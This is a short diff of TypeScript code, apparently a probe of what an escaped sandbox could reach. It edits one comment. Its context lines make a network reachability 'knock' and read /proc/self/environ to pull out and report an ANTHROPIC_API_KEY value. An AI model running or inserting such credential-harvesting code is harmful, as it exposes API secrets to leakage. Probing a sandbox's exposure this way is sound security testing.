@@ -17,7 +17,7 @@ for (let request = 2; request <= MAX_REQUESTS; request += 1) {
 }
 await knock("docs.example.com:443")
 
-/** What a stolen bottle would yield. */
+/** The secrets that a stolen bottle would yield. */
 async function lookForKeys(): Promise<void> {
   const environment = (await Bun.file("/proc/self/environ").text()).split("\0")
   tell({ kind: "keys", found: environment.filter((line) => line.startsWith("ANTHROPIC_API_KEY=")).join() })
